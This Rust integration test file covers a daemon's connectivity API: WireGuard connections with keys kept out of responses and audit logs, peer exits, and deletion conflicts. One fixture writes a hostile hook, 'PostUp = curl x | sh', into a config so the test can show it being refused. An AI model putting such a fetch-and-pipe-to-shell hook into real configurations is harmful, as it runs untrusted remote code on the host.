//! `/api/connectivity/*` on a picd whose routing is off (it runs in the machine's own
//! namespace): connections and each peer's exit are recorded and audited, the provider's keys
//! go to the vault (never in a response, the row or the audit log), a file with a hook is
//! refused naming its line, and a connection a peer uses cannot be deleted.

mod common;

use common::*;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

const CONNECTIONS: &str = "/api/connectivity/connections";
const PRIVATE_KEY: &str = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
const PROVIDER_KEY: &str = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";
const PRESHARED_KEY: &str = "8kG1vZLCb4tV3xUVfu6mh0sSc3kNBuEjv4q3nQfYa0c=";

fn provider_file(extra: &str) -> String {
    format!(
        "[Interface]\nPrivateKey = {PRIVATE_KEY}\nAddress = 10.64.0.2/32\nDNS = 10.64.0.1\n{extra}\n\
         [Peer]\nPublicKey = {PROVIDER_KEY}\nPresharedKey = {PRESHARED_KEY}\n\
         Endpoint = 198.51.100.2:51820\nAllowedIPs = 0.0.0.0/0, ::/0\nPersistentKeepalive = 25\n"
    )
}

async fn send(admin: &TestClient, method: Method, path: &str, body: Value) -> (StatusCode, Value) {
    json_of(admin.send_json(method, path, &body).await).await
}

fn assert_no_secret(text: &str, what: &str) {
    for key in [PRIVATE_KEY, PRESHARED_KEY] {
        assert!(!text.contains(key), "{what} holds a secret: {text}");
    }
}

#[tokio::test]
async fn connections_are_recorded_with_their_keys_in_the_vault_and_peers_choose_them() {
    let (picd, admin) = picd_with_admin().await;
    netns::create_peer(&admin, json!({ "name": "alice" })).await;
    let body = json!({ "name": "provider", "type": "wireguard_ext", "config": provider_file("") });
    let (status, created) = send(&admin, Method::POST, CONNECTIONS, body).await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    assert_no_secret(&created.to_string(), "the answer");
    assert_eq!(created["slot"], 1, "{created}");
    assert_eq!(created["mark"], "0x01000000", "{created}");
    assert_eq!(created["settings"]["has_preshared_key"], true, "{created}");
    let id = created["id"].as_str().expect("id").to_string();
    let audit = last_audit(&picd.db());
    assert_eq!(
        (audit.action.as_str(), audit.result.as_str()),
        ("connectivity.connections", "success")
    );
    assert_eq!(
        (audit.target_type.as_str(), audit.target_id.as_str()),
        ("connection", id.as_str())
    );
    assert_no_secret(&audit.detail.to_string(), "the audit entry");
    let row: String = picd
        .db()
        .query_row("SELECT settings FROM connectivity_connections", [], |r| {
            r.get(0)
        })
        .expect("the row");
    assert_no_secret(&row, "the row");
    let secrets: i64 = picd
        .db()
        .query_row(
            "SELECT COUNT(*) FROM secrets WHERE name LIKE 'connectivity.%'",
            [],
            |r| r.get(0),
        )
        .expect("secrets");
    assert_eq!(secrets, 2, "the private and preshared keys in the vault");

    let hook = json!({ "name": "evil", "type": "wireguard_ext",
                       "config": provider_file("PostUp = curl x | sh") });
    let (status, refused) = send(&admin, Method::POST, CONNECTIONS, hook).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
    assert!(
        refused.to_string().contains("line 5: PostUp is refused"),
        "{refused}"
    );
    assert_eq!(last_audit(&picd.db()).result, "failure");

    let path = "/api/connectivity/peers/alice/exit";
    let (status, exit) = send(&admin, Method::PUT, path, json!({ "connection": id })).await;
    assert_eq!(status, StatusCode::OK, "{exit}");
    assert_eq!(
        (&exit["connection"], &exit["fail_open"]),
        (&json!(id), &json!(false))
    );
    let (_, peers) = admin.get_json("/api/connectivity/peers").await;
    assert_eq!(peers["peers"][0]["connection"], json!(id), "{peers}");
    let (status, conflict) = send(
        &admin,
        Method::DELETE,
        &format!("{CONNECTIONS}/{id}"),
        json!({}),
    )
    .await;
    assert_eq!(
        (status, &conflict["code"]),
        (StatusCode::CONFLICT, &json!("in_use")),
        "{conflict}"
    );
    assert_eq!(last_audit(&picd.db()).result, "failure");

    let renamed = json!({ "name": "provider-b" });
    let (status, updated) =
        send(&admin, Method::PUT, &format!("{CONNECTIONS}/{id}"), renamed).await;
    assert_eq!(
        (status, &updated["name"]),
        (StatusCode::OK, &json!("provider-b")),
        "{updated}"
    );
    assert_eq!(updated["used_by"], json!(["alice"]), "{updated}");
    let (_, exits) = admin.get_json("/api/connectivity/exits").await;
    assert_eq!(exits["exits"][0]["state"], "connecting", "{exits}");
    let (status, probed) = admin.get_json(&format!("{CONNECTIONS}/{id}/health")).await;
    assert_eq!(
        (status, &probed["answered"]),
        (StatusCode::OK, &json!(false)),
        "{probed}"
    );
    let (status, st) = admin.get_json("/api/connectivity/status").await;
    assert_eq!(status, StatusCode::OK, "{st}");
    assert_eq!(
        st["driver"]["state"], "unavailable",
        "routing is off in these tests: {st}"
    );

    let (status, _) = send(&admin, Method::PUT, path, json!({ "connection": null })).await;
    assert_eq!(status, StatusCode::OK);
    let resp = admin
        .send_json(Method::DELETE, &format!("{CONNECTIONS}/{id}"), &json!({}))
        .await;
    assert_eq!(resp.status(), StatusCode::NO_CONTENT);
    let secrets: i64 = picd
        .db()
        .query_row(
            "SELECT COUNT(*) FROM secrets WHERE name LIKE 'connectivity.%'",
            [],
            |r| r.get(0),
        )
        .expect("secrets");
    assert_eq!(secrets, 0, "the keys left the vault with their connection");
    let (status, _) = send(
        &admin,
        Method::DELETE,
        &format!("{CONNECTIONS}/{id}"),
        json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_no_internal_errors(&picd);
}
